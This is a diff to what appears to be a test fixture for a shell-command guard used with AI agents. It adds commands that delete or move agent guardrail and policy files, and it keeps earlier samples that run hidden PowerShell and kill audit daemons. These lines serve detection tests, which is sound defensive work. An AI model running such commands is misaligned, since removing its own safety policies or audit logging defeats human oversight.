@@ -75,6 +75,12 @@ export const LINES_OF_DISGUISES: readonly (readonly [line: string, does: string,
   ['powershell -w hidden -File x.ps1', 'ask', 'script-from-hidden'],
   ['pkill -f "syslog|auditd"', 'ask', 'stop-service'],
   ['cargo install --git https://h.example/x', 'ask', 'package-from-nowhere'],
+  ['rm -rf .rampart/policies', 'ask', 'change-guards'],
+  ['mv .agent/guardrails /tmp', 'ask', 'change-guards'],
+  ['rm -r ~/.repo-guard', 'ask', 'change-guards'],
+  ['rm .safety-net/policy/deny.yaml', 'ask', 'change-guards'],
+  ['mv ~/.config/tirith /tmp', 'ask', 'change-guards'],
+  ['rm .shellfirm.yaml', 'ask', 'change-guards'],
 ];
 
 /** Lines close to these that pass with every pack. */
@@ -128,4 +134,6 @@ export const LINES_OF_NO_DISGUISE: readonly string[] = [
   'cargo install --git https://github.com/a/b',
   'export -f build',
   'base64 logo.png',
+  'rm -rf .agent/cache',
+  'cat .rampart/policies/a.yaml',
 ];
